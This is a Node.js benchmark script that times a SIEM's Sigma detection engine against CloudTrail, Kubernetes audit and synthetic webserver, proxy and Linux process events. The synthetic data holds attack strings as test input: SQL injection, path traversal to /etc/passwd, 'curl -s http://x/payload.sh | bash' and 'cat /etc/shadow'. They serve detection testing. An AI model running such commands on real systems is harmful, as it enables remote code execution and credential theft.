// Sigma engine speed (issue 9, part A). Two figures, each against the anchor the issue names:
// 1. events/s through Sigma (JSON.parse + detector.match) with every SigmaHQ rule for the linux, web (webserver, proxy),
//    cloud and kubernetes logsources loaded, vs a JSON.parse-only loop over the same NDJSON lines (the practical limit),
//    on one core. Targets: ratio >= 0.5 and >= 50,000 events/s.
// 2. `rampart hunt --sigma` with all SigmaHQ rules over the sigma-regression events: events/s (CLI wall time, and the
//    matching loop alone once rules are loaded).
// Events: real CloudTrail and Kubernetes audit logs from ../shared/data/siem, plus seeded synthetic webserver, proxy and
// linux process events (no labelled public logs of those kinds exist in shared data) in ECS fields, as normalized events
// are, with the `ecs` pipeline mapping the rules' field names onto them.
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { figure, measure, median } from './lib.mjs';

const root = new URL('..', import.meta.url).pathname;
const shared = process.env.RAMPART_SHARED_DATA ?? join(root, '..', 'shared', 'data');
const { loadSigmaRules, compileDetector } = await import(join(root, 'packages/siem/dist/sigma/index.js'));
const BENCH = 'siem-sigma';
const FOLDERS = [
  'rules',
  'rules-emerging-threats',
  'rules-threat-hunting',
  'rules-placeholder',
  'rules-compliance',
].map((f) => join(shared, 'sigma', f));

// CPU time of this process (user + system), not wall time: the machine is shared, and a descheduled loop would count
// other processes' work as ours. One thread, so CPU seconds are seconds on one core.
function cpuMs() {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
}

// --- rules: linux, webserver, proxy, cloud, kubernetes ---
const all = loadSigmaRules(FOLDERS, { pipeline: 'ecs' });
const wanted = all.rules.filter((r) => {
  const ls = r.logsource;
  return (
    ls.product === 'linux' ||
    ls.product === 'kubernetes' ||
    ls.category === 'webserver' ||
    ls.category === 'proxy' ||
    r.file.includes('/cloud/')
  );
});
const detector = compileDetector(wanted, { pipeline: all.pipeline });
process.stderr.write(`${wanted.length} rules (linux, webserver, proxy, cloud, kubernetes) of ${all.rules.length}\n`);

// --- events ---
let seed = 42;
const rand = () => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
};
const pick = (a) => a[Math.floor(rand() * a.length)];
const lines = [];
const sources = [];
const add = (event, ls) => {
  lines.push(JSON.stringify(event));
  sources.push(ls);
};
for (const src of ['invictus-aws_dataset/CloudTrail', 'stratus-red-team/detonation-logs']) {
  const dir = join(shared, 'siem/cloudtrail', src);
  for (const f of readdirSync(dir)) {
    const doc = JSON.parse(readFileSync(join(dir, f), 'utf8'));
    for (const e of Array.isArray(doc) ? doc : doc.Records) add(e, { product: 'aws', service: 'cloudtrail' });
  }
}
const k8sDir = join(shared, 'siem/k8s-audit/trace_files');
for (const f of readdirSync(k8sDir)) {
  for (const l of readFileSync(join(k8sDir, f), 'utf8').split('\n')) {
    if (l.trim() !== '') add(JSON.parse(l), { product: 'kubernetes', service: 'audit' });
  }
}
const paths = [
  '/index.html',
  '/api/v1/users',
  '/static/app.js',
  '/login',
  '/wp-login.php',
  '/cgi-bin/test.cgi',
  '/admin',
];
const queries = [
  '',
  'id=1',
  'q=shoes&page=2',
  "id=1' OR '1'='1",
  'file=../../../../etc/passwd',
  'cmd=whoami',
  'x=<script>',
];
const agents = [
  'Mozilla/5.0 (X11; Linux x86_64)',
  'curl/8.4.0',
  'python-requests/2.31',
  'sqlmap/1.7',
  'Go-http-client/1.1',
];
for (let i = 0; i < 3000; i++) {
  add(
    {
      '@timestamp': new Date(1_795_400_000_000 + i * 1000).toISOString(),
      http: {
        request: { method: pick(['GET', 'GET', 'POST', 'PUT']), referrer: '-' },
        response: { status_code: pick([200, 404, 500]) },
      },
      url: { path: pick(paths), query: pick(queries) },
      source: { ip: `10.0.${i % 256}.${(i * 7) % 256}` },
      user_agent: { original: pick(agents) },
    },
    { category: 'webserver' },
  );
}
const hosts = [
  'example.com',
  'api.github.com',
  'pastebin.com',
  'updates.vendor.net',
  'ngrok-free.app',
  'cdn.jsdelivr.net',
];
for (let i = 0; i < 2000; i++) {
  const host = pick(hosts);
  add(
    {
      url: {
        original: `https://${host}${pick(paths)}`,
        domain: host,
        extension: pick(['html', 'js', 'exe', 'ps1', 'php']),
      },
      http: { request: { method: pick(['GET', 'POST', 'CONNECT']) }, response: { status_code: pick([200, 403]) } },
      user_agent: { original: pick(agents) },
      destination: { domain: host },
    },
    { category: 'proxy' },
  );
}
const images = [
  '/usr/bin/bash',
  '/usr/bin/curl',
  '/usr/bin/python3',
  '/usr/bin/base64',
  '/usr/bin/ls',
  '/usr/sbin/useradd',
];
const cmds = [
  'ls -la',
  'curl -s http://x/payload.sh | bash',
  'base64 -d /tmp/x',
  'useradd -m eve',
  'cat /etc/shadow',
  'id',
];
for (let i = 0; i < 3000; i++) {
  add(
    {
      process: {
        executable: pick(images),
        command_line: pick(cmds),
        working_directory: '/tmp',
        parent: { executable: pick(['/usr/bin/bash', '/usr/sbin/sshd', '/usr/bin/python3']) },
      },
      user: { name: pick(['root', 'www-data', 'bob']) },
    },
    { product: 'linux', category: 'process_creation' },
  );
}
process.stderr.write(`${lines.length} events\n`);
if (process.env.BENCH_DEBUG === 'sources') {
  const groups = new Map();
  for (let i = 0; i < lines.length; i++) {
    const k = JSON.stringify(sources[i]);
    if (!groups.has(k)) groups.set(k, []);
    groups.get(k).push(i);
  }
  for (const [k, idx] of groups) {
    const evs = idx.map((i) => JSON.parse(lines[i]));
    const ls = sources[idx[0]];
    for (const e of evs) detector.match(e, ls);
    const t = cpuMs();
    for (let r = 0; r < 20; r++) for (const e of evs) detector.match(e, ls);
    const t2 = cpuMs();
    for (let r = 0; r < 20; r++) for (const i of idx) JSON.parse(lines[i]);
    const t3 = cpuMs();
    process.stderr.write(
      `${k}: match ${((t2 - t) * 1000) / (20 * evs.length)} us/event, parse ${((t3 - t2) * 1000) / (20 * evs.length)} us/event\n`,
    );
  }
  process.exit(0);
}
if (process.env.BENCH_DEBUG === 'attempts') {
  const { compileRule } = await import(join(root, 'packages/siem/dist/sigma/compile-rule.js'));
  const tried = new Map();
  for (const r of wanted) {
    for (const v of compileRule(r, all.pipeline).variants) {
      const t = v.test;
      v.test = (x) => {
        tried.set(r.file, (tried.get(r.file) ?? 0) + 1);
        return t(x);
      };
    }
  }
  const d = compileDetector(wanted, { pipeline: all.pipeline });
  for (let i = 0; i < lines.length; i++) d.match(JSON.parse(lines[i]), sources[i]);
  const total = [...tried.values()].reduce((a, b) => a + b, 0);
  process.stderr.write(`${total / lines.length} attempts per event\n`);
  process.stderr.write(`${JSON.stringify([...tried].sort((a, b) => b[1] - a[1]).slice(0, 25), null, 1)}\n`);
  process.exit(0);
}
if (process.env.BENCH_DEBUG === '1') {
  const per = new Map();
  for (let i = 0; i < lines.length; i++) {
    for (const m of detector.match(JSON.parse(lines[i]), sources[i]))
      per.set(m.rule.file, (per.get(m.rule.file) ?? 0) + 1);
  }
  process.stderr.write(`${JSON.stringify([...per].sort((a, b) => b[1] - a[1]).slice(0, 15), null, 1)}\n`);
  process.stderr.write(`${JSON.stringify(detector.stats())}\n`);
  process.exit(0);
}

// --- 1. detector vs JSON.parse ---
function parseOnly() {
  let n = 0;
  for (const l of lines) n += JSON.parse(l) === null ? 0 : 1;
  return n;
}
let matches = 0;
function throughSigma() {
  let n = 0;
  for (let i = 0; i < lines.length; i++) {
    const e = JSON.parse(lines[i]);
    n += detector.match(e, sources[i]).length;
  }
  matches = n;
  return n;
}
function rate(fn, ms = 1500) {
  fn(); // warm up
  const start = cpuMs();
  let events = 0;
  while (cpuMs() - start < ms) {
    fn();
    events += lines.length;
  }
  return events / ((cpuMs() - start) / 1000);
}
const sigmaRates = [];
const parseRates = [];
for (let round = 0; round < 3; round++) {
  parseRates.push(rate(parseOnly));
  sigmaRates.push(rate(throughSigma));
}
process.stderr.write(`${matches} matches per pass over the events\n`);
figure(BENCH, 'events_per_s.sigma_linux_web_proxy_cloud_k8s', median(sigmaRates), 'events/s', {
  name: 'json-parse-only',
  value: median(parseRates),
});

// The same comparison on the real CloudTrail events alone (large, deeply nested records).
const cloudtrail = [];
for (let i = 0; i < lines.length; i++) if (sources[i].service === 'cloudtrail') cloudtrail.push(i);
const ctParseRates = [];
const ctSigmaRates = [];
const ctRate = (fn) => rate(fn, 700) * (cloudtrail.length / lines.length);
for (let round = 0; round < 3; round++) {
  ctParseRates.push(
    ctRate(() => {
      for (const i of cloudtrail) JSON.parse(lines[i]);
    }),
  );
  ctSigmaRates.push(
    ctRate(() => {
      for (const i of cloudtrail) detector.match(JSON.parse(lines[i]), sources[i]);
    }),
  );
}
figure(BENCH, 'events_per_s.sigma_cloudtrail_only', median(ctSigmaRates), 'events/s', {
  name: 'json-parse-only',
  value: median(ctParseRates),
});

if (process.env.BENCH_ONLY === 'detector') process.exit(0);

// --- 2. rampart hunt --sigma, all rules, over the sigma-regression events ---
const cases = JSON.parse(readFileSync(join(shared, 'sigma-regression/cases.json'), 'utf8'));
const regressionLines = cases.flatMap((c) =>
  readFileSync(join(shared, 'sigma-regression', c.events_file), 'utf8')
    .split('\n')
    .filter((l) => l !== ''),
);
// Repeated so the matching loop runs long enough to measure; rule loading is a fixed cost reported apart.
const REPEAT = 10;
const input = join(tmpdir(), `rampart-bench-sigma-regression-${process.pid}.ndjson`);
writeFileSync(input, `${Array.from({ length: REPEAT }, () => regressionLines.join('\n')).join('\n')}\n`);
const events = regressionLines.length * REPEAT;
const loadStart = cpuMs();
const loaded = loadSigmaRules(FOLDERS, { pipeline: 'windows' });
const loadMs = cpuMs() - loadStart;
const allDetector = compileDetector(loaded.rules, { pipeline: loaded.pipeline });
const parsed = regressionLines.map((l) => JSON.parse(l));
const loopRates = [];
for (let round = 0; round < 3; round++) {
  const t = cpuMs();
  for (let r = 0; r < REPEAT; r++) for (const e of parsed) allDetector.match(e);
  loopRates.push(events / ((cpuMs() - t) / 1000));
}
figure(BENCH, 'rules_load_cpu_ms.all_sigmahq', loadMs, 'ms');
figure(BENCH, 'events_per_s.hunt_match_loop_all_rules', median(loopRates), 'events/s');
const cli = join(root, 'packages/cli/bin/rampart.js');
const walls = [];
for (let round = 0; round < 3; round++) {
  const r = await measure(
    process.execPath,
    [cli, 'hunt', '--sigma', ...FOLDERS, '--input', input, '-f', 'json', '-o', '/dev/null', '-q'],
    {
      keepStdout: false,
    },
  );
  if (r.code !== 0) {
    process.stderr.write(`rampart hunt failed (${r.code}): ${r.stderr}\n`);
    break;
  }
  walls.push(r.wallMs);
}
if (walls.length > 0) {
  figure(BENCH, 'events_per_s.rampart_hunt_cli_all_rules', events / (median(walls) / 1000), 'events/s');
  figure(BENCH, 'wall_ms.rampart_hunt_cli_all_rules', median(walls), 'ms');
}
